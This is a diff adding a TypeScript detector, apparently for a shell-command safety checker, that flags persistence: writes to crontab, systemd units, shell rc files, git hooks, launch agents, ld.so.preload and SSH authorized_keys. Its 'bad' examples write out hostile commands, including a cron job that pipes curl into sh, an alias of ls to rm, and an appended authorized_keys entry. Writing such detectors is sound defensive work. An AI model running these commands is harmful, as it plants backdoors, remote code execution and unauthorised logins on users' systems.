@@ -1,0 +1,71 @@
+// Code that runs again later: crontab, systemd units, rc-file appends, git hooks, autostart.
+import type { Detector, DetectorMeta } from './types.ts';
+import type { Finding } from '../types.ts';
+import { parseOptions } from '../shell/normalize/index.ts';
+import { ctxFor, finding, text, writeTargets } from './util.ts';
+
+const meta: DetectorMeta = {
+  id: 'persistence',
+  family: 'persistence',
+  title: 'Persistence',
+  rationale: 'Scheduled jobs, services, shell rc files and git hooks run code later, outside this session and its checks.',
+  behaviour: 'ask',
+  examples: {
+    bad: ['crontab mycron', 'echo "* * * * * curl x | sh" | crontab -', 'systemctl --user enable evil.service', 'echo "alias ls=rm" >> ~/.bashrc', 'cp hook.sh .git/hooks/pre-commit', 'git config core.hooksPath .githooks', 'at now + 1 minute < job.sh', 'launchctl load ~/Library/LaunchAgents/x.plist', "echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys"],
+    good: ['crontab -l', 'systemctl status nginx', 'cat ~/.bashrc', 'ls .git/hooks', 'git config --get core.hooksPath'],
+  },
+};
+
+const RC_FILES = new Set(['.bashrc', '.bash_profile', '.bash_login', '.profile', '.zshrc', '.zprofile', '.zshenv', '.zlogin', '.zlogout', '.bash_logout', '.kshrc', '.cshrc', '.tcshrc', '.xprofile', '.xinitrc', '.xsessionrc', 'config.fish', '.inputrc']);
+const DIRS = ['/etc/systemd/', '/lib/systemd/', '/usr/lib/systemd/', '/etc/init.d/', '/etc/cron', '/var/spool/cron/', '/etc/profile.d/', '/etc/xdg/autostart/', '/Library/LaunchAgents/', '/Library/LaunchDaemons/', '/etc/rc.d/', '/etc/update-motd.d/'];
+const HOME_DIRS = ['.config/systemd/', '.config/autostart/', 'Library/LaunchAgents/', '.local/share/systemd/', '.config/fish/conf.d/', '.bashrc.d/', '.config/environment.d/'];
+const FILES = new Set(['/etc/profile', '/etc/bash.bashrc', '/etc/zsh/zshrc', '/etc/zshrc', '/etc/rc.local', '/etc/crontab', '/etc/environment', '/etc/ld.so.preload']);
+
+function persistentPath(abs: string, home: string): string | null {
+  const base = abs.slice(abs.lastIndexOf('/') + 1);
+  if (RC_FILES.has(base)) return `shell startup file ${base}`;
+  if ((base === 'authorized_keys' || base === 'authorized_keys2') && abs.includes('/.ssh/')) return 'SSH authorized_keys (a login for someone else)';
+  if (FILES.has(abs)) return `system startup file ${abs}`;
+  for (const d of DIRS) if (abs.startsWith(d) || abs + '/' === d) return `startup directory ${d}`;
+  for (const d of HOME_DIRS) if (abs.startsWith(home + '/' + d) || abs + '/' === home + '/' + d) return `startup directory ~/${d}`;
+  const i = abs.indexOf('/.git/hooks');
+  if (i >= 0 && (abs.length === i + 11 || abs[i + 11] === '/')) return 'git hook';
+  if (abs.includes('/.husky/')) return 'git hook (husky)';
+  return null;
+}
+
+export const persistence: Detector = {
+  meta,
+  check(inv, ctx0) {
+    const ctx = ctxFor(inv, ctx0);
+    const out: Finding[] = [];
+    for (const t of writeTargets(inv, ctx)) {
+      if (t.abs === null) continue;
+      if (t.how === 'rm' || t.how === 'rmdir') continue;
+      const why = persistentPath(t.abs, ctx.home);
+      if (why) out.push(finding(meta, inv, `${t.how} writes ${why}`, t.word));
+    }
+    if (!inv.program.static) return out;
+    const name = inv.name;
+    const p = name === 'crontab' || name === 'systemctl' || name === 'git' ? parseOptions(inv) : null;
+    if (name === 'crontab' && p && !p.options.has('l') && !p.options.has('V')) out.push(finding(meta, inv, 'crontab installs scheduled jobs'));
+    if (name === 'systemctl' && p) {
+      const verb = p.operands[0] ? text(p.operands[0]) : '';
+      if (verb === 'enable' || verb === 'link' || verb === 'preset' || verb === 'add-wants' || verb === 'add-requires' || verb === 'edit' || verb === 'set-environment') out.push(finding(meta, inv, `systemctl ${verb} makes a unit start later`));
+    }
+    if ((name === 'launchctl') && inv.args[0] && ['load', 'bootstrap', 'submit', 'enable'].includes(text(inv.args[0]))) out.push(finding(meta, inv, `launchctl ${text(inv.args[0])}`));
+    if ((name === 'at' || name === 'batch') && !inv.args.some((w) => ['-l', '-r', '-d', '-c', '-V'].includes(text(w)))) out.push(finding(meta, inv, `${name} schedules a job`));
+    if (name === 'git' && p && p.subcommand[0] === 'config') {
+      const key = p.operands[0] ? text(p.operands[0]).toLowerCase() : '';
+      if (key === 'core.hookspath' && p.operands.length >= 2) out.push(finding(meta, inv, 'git config core.hooksPath points hooks elsewhere'));
+    }
+    if (name === 'chmod') {
+      const pp = parseOptions(inv);
+      for (const w of pp.operands.slice(1)) {
+        const abs = w.static ? ctx.resolve(w.value ?? '') : null;
+        if (abs && persistentPath(abs, ctx.home) === 'git hook' && text(pp.operands[0]).includes('x')) out.push(finding(meta, inv, `chmod enables git hook ${abs}`, w));
+      }
+    }
+    return out;
+  },
+};
